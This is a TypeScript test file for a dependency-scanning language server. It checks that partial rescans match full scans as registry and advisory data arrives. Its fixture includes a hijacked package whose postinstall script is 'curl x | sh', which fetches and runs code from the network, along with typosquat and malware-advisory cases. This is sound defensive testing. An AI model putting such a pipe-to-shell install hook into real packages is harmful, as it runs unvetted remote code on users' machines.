/**
 * rescanLanded (scan.ts): while lookups land, the language server judges only the names
 * whose data landed and keeps the rest of the last scan. Whatever the order and the
 * batches in which answers land, each result must be the full scan's with the same data.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rescanLanded, scanFiles, type ScanResult } from '../../server/src/engine/scan';
import { defaultSettings, type SourceFile } from '../../server/src/engine/model';
import { reducePackument } from '../../server/src/engine/data/registry-client';
import { advisoryKey, emptyRemoteData, type AdvisoryLookup, type PackumentLookup, type RemoteData } from '../../server/src/engine/data/remote-data';
import { buildPackument, type FakePackage } from '../support/fake-registry';
import { npmLockText } from '../support/fixtures';

const NOW = new Date('2026-11-28T12:00:00Z');
const PUBLIC = 'https://registry.npmjs.org/';
const OLD = '2019-01-01T00:00:00.000Z';
const daysAgo = (d: number) => new Date(NOW.getTime() - d * 86_400_000).toISOString();
const REPO = 'https://github.com/x/y';

const ok = (name: string, pkg: FakePackage): PackumentLookup => ({ status: 'ok', packument: reducePackument(buildPackument(PUBLIC, name, pkg), name)!, registry: PUBLIC, fromCache: false });
const plain = (versions: string[], extra: Partial<FakePackage['versions'][string]> = {}): FakePackage => ({ created: OLD, versions: Object.fromEntries(versions.map((v) => [v, { repository: REPO, ...extra }])) });

/** A project on which most remote rules find something, and the answers the registry gives. */
function project(): { files: SourceFile[]; packuments: Map<string, PackumentLookup>; advisories: Map<string, AdvisoryLookup> } {
  const deps = ['deprecated-a', 'scripted', 'hijacked', 'young-dep', 'gone', 'failing', 'crossenv', 'pulled', 'brand-new', 'vulnerable', 'malicious', 'no-repo', 'jumpy', 'aliased', 'weak', 'lodahs', 'lodash-tools'];
  const lock = npmLockText({
    'deprecated-a': '1.0.0',
    scripted: { version: '1.0.0', hasInstallScript: true },
    'flagged-only': { version: '2.0.0', hasInstallScript: true },
    hijacked: '1.0.1',
    'young-dep': '1.0.0',
    gone: '1.0.0',
    failing: '1.0.0',
    crossenv: '1.0.0',
    pulled: '1.0.5',
    'brand-new': '1.0.0',
    vulnerable: '1.0.0',
    malicious: '1.0.0',
    'no-repo': '1.0.0',
    jumpy: '99.0.0',
    aliased: { version: '1.0.0', name: 'deprecated-a', resolved: `${PUBLIC}deprecated-a/-/deprecated-a-1.0.0.tgz` },
    weak: { version: '1.0.0', integrity: 'sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=' },
    lodahs: '1.0.0',
    'lodash-tools': '1.0.0',
    'hijacked/node_modules/deprecated-a': '0.9.0',
  } as never);
  const files: SourceFile[] = [
    { path: 'package.json', text: JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { ...Object.fromEntries(deps.map((d) => [d, '*'])), aliased: 'npm:deprecated-a@1.0.0' } }, null, 2) },
    { path: 'package-lock.json', text: lock },
    // No lockfile of its own: judged at the versions its ranges resolve to today.
    { path: 'tools/package.json', text: JSON.stringify({ name: 'tools', version: '1.0.0', dependencies: { 'deprecated-a': '^1.0.0', pulled: '^2.0.0', vulnerable: '1.0.0', hijacked: '~1.0.0' } }, null, 2) },
  ];
  const packuments = new Map<string, PackumentLookup>([
    ['deprecated-a', ok('deprecated-a', { created: OLD, versions: { '0.9.0': { repository: REPO }, '1.0.0': { repository: REPO, deprecated: 'use something else' } } })],
    ['scripted', ok('scripted', plain(['0.9.0', '1.0.0'], { scripts: { postinstall: 'node install.js' } }))],
    ['flagged-only', ok('flagged-only', plain(['2.0.0']))],
    // A patch release by a new publisher that adds a young dependency: trust-change reads young-dep's data too.
    ['hijacked', ok('hijacked', { created: OLD, versions: { '1.0.0': { repository: REPO, npmUser: 'alice' }, '1.0.1': { repository: REPO, npmUser: 'mallory', dependencies: { 'young-dep': '^1.0.0' }, scripts: { postinstall: 'curl x | sh' } } } })],
    ['young-dep', ok('young-dep', { created: daysAgo(2), versions: { '1.0.0': { time: daysAgo(2) } } })],
    ['gone', { status: 'gone', how: 'not-found', registry: PUBLIC, fromCache: false }],
    ['failing', { status: 'error', reason: 'HTTP 500', registry: PUBLIC }],
    ['crossenv', ok('crossenv', { created: OLD, versions: { '0.0.1-security': { repository: 'npm/security-holder' } } })],
    ['pulled', ok('pulled', plain(['1.0.0', '1.0.4']))],
    ['brand-new', ok('brand-new', { created: daysAgo(1), versions: { '1.0.0': { time: daysAgo(1), repository: REPO } } })],
    ['vulnerable', ok('vulnerable', plain(['1.0.0', '1.2.0']))],
    ['malicious', ok('malicious', plain(['1.0.0']))],
    ['no-repo', ok('no-repo', { created: OLD, versions: { '1.0.0': {} } })],
    ['jumpy', ok('jumpy', plain(['1.0.0', '99.0.0']))],
    ['weak', ok('weak', plain(['1.0.0']))],
    ['lodahs', ok('lodahs', { created: daysAgo(3), versions: { '1.0.0': { time: daysAgo(3) } } })],
    // An affix imitation of lodash: young, one version, and (once lodash's data is in) a
    // publisher who never published lodash: typosquat reads lodash's packument for it.
    ['lodash-tools', ok('lodash-tools', { created: daysAgo(2), versions: { '1.0.0': { time: daysAgo(2), repository: REPO, npmUser: 'mallory' } } })],
    ['lodash', ok('lodash', { created: OLD, versions: Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`4.${i}.0`, { repository: REPO, npmUser: 'jdalton' }])) })],
  ]);
  const none: AdvisoryLookup = { status: 'ok', advisories: [] };
  const advisories = new Map<string, AdvisoryLookup>();
  for (const [name] of packuments) advisories.set(advisoryKey(name, name === 'jumpy' ? '99.0.0' : name === 'pulled' ? '1.0.5' : '1.0.0'), none);
  advisories.set(advisoryKey('vulnerable', '1.0.0'), { status: 'ok', advisories: [{ id: 'GHSA-1', aliases: [], summary: 'bad', malware: false, severity: 'high', fixed: '1.2.0' }] });
  advisories.set(advisoryKey('malicious', '1.0.0'), { status: 'ok', advisories: [{ id: 'MAL-1', aliases: [], summary: 'malware', malware: true, severity: 'critical' }] });
  advisories.set(advisoryKey('deprecated-a', '0.9.0'), { status: 'error', reason: 'timeout' });
  return { files, packuments, advisories };
}

/** A store that grows like the data plane's: what has not landed is pending. */
function growingStore(): RemoteData {
  const remote: RemoteData = { ...emptyRemoteData(), advisoriesEnabled: true };
  remote.pending = { names: { has: (n) => !remote.packuments.has(n) }, advisories: { has: (k) => !remote.advisories.has(k) } };
  return remote;
}

function nameOfKey(key: string): string {
  return key.slice(0, key.lastIndexOf('@'));
}

/** What a result shows (functions such as computeEdits left out, as JSON does). */
function shown(r: ScanResult): unknown {
  return JSON.parse(JSON.stringify({ findings: r.findings, errors: r.ruleErrors }));
}

/** A small deterministic random generator (a failure names its seed). */
function random(seed: number): () => number {
  let s = seed >>> 0 || 1;
  return () => {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    return (s >>> 0) / 2 ** 32;
  };
}

test('rescanLanded: answers landing in any order and batches give what a full scan gives', () => {
  const { files, packuments, advisories } = project();
  const settings = defaultSettings();
  /** One answer landing in a store: returns the name it is about. */
  type Answer = (store: RemoteData) => string;
  const answers: Answer[] = [
    ...[...packuments].map(([name, lookup]): Answer => (store) => (store.packuments.set(name, lookup), name)),
    ...[...advisories].map(([key, lookup]): Answer => (store) => (store.advisories.set(key, lookup), nameOfKey(key))),
  ];
  const everything = growingStore();
  for (const a of answers) a(everything);
  const complete = scanFiles(files, { settings, now: NOW, remote: everything });
  const rules = new Set(complete.findings.map((f) => f.rule));
  // The fixture covers the rules rescanLanded treats differently.
  assert.ok(
    complete.findings.some((f) => f.rule === 'typosquat' && f.package === 'lodash-tools' && f.message.includes('who never published "lodash"')),
    'the fixture has no affix typosquat that reads the popular package',
  );
  for (const id of ['deprecated', 'install-script', 'trust-change', 'removed-from-registry', 'security-holder', 'new-package', 'release-cooldown', 'known-vulnerability', 'known-malware', 'no-repository', 'version-anomaly', 'lookup-incomplete', 'lockfile-integrity', 'typosquat', 'unknown-package']) {
    assert.ok(rules.has(id as never), `the fixture has no ${id} finding: ${[...rules].join(', ')}`);
  }

  for (let seed = 1; seed <= 40; seed++) {
    const next = random(seed);
    const store = growingStore();
    const order = [...answers].sort(() => next() - 0.5);
    let previous = scanFiles(files, { settings, now: NOW, remote: store, keepForRescan: true });
    let step = 0;
    while (order.length) {
      const batch = order.splice(0, 1 + Math.floor(next() * 5));
      const landed = new Set(batch.map((a) => a(store)));
      const rescanned = rescanLanded(previous, { settings, now: NOW, remote: store }, landed);
      assert.ok(rescanned, `seed ${seed} step ${step}: not rescanned in part`);
      const full = scanFiles(files, { settings, now: NOW, remote: store });
      assert.deepEqual(shown(rescanned), shown(full), `seed ${seed} step ${step} (landed: ${[...landed].join(', ')})`);
      previous = rescanned;
      step++;
    }
    assert.deepEqual(shown(previous), shown(complete), `seed ${seed}: the end`);
    // Asked again later: a failed lookup and a failed advisory query answer now.
    store.packuments.set('failing', ok('failing', plain(['1.0.0'])));
    store.advisories.set(advisoryKey('failing', '1.0.0'), { status: 'ok', advisories: [] });
    store.advisories.set(advisoryKey('deprecated-a', '0.9.0'), { status: 'ok', advisories: [] });
    const again = rescanLanded(previous, { settings, now: NOW, remote: store }, new Set(['failing', 'deprecated-a']));
    assert.ok(again);
    const full = shown(scanFiles(files, { settings, now: NOW, remote: store }));
    assert.deepEqual(shown(again), full, `seed ${seed}: answered again`);
    assert.ok(!JSON.stringify(full).includes('lookup-incomplete'));
  }
});

test('rescanLanded declines when the data is another store, or the settings changed', () => {
  const { files, packuments } = project();
  const settings = defaultSettings();
  const remote = growingStore();
  const first = scanFiles(files, { settings, now: NOW, remote, keepForRescan: true });
  remote.packuments.set('gone', packuments.get('gone')!);
  assert.ok(rescanLanded(first, { settings, now: NOW, remote }, new Set(['gone'])));
  assert.equal(rescanLanded(first, { settings, now: NOW, remote: growingStore() }, new Set(['gone'])), undefined, 'another store');
  assert.equal(rescanLanded(first, { settings, now: NOW, remote: { ...remote, iocs: new Map() } }, new Set(['gone'])), undefined, 'other indicators');
  assert.equal(rescanLanded(first, { settings: defaultSettings(), now: NOW, remote }, new Set(['gone'])), undefined, 'other settings');
  assert.equal(rescanLanded(scanFiles(files, { settings, now: NOW, remote }), { settings, now: NOW, remote }, new Set(['gone'])), undefined, 'a scan kept for nothing');
});
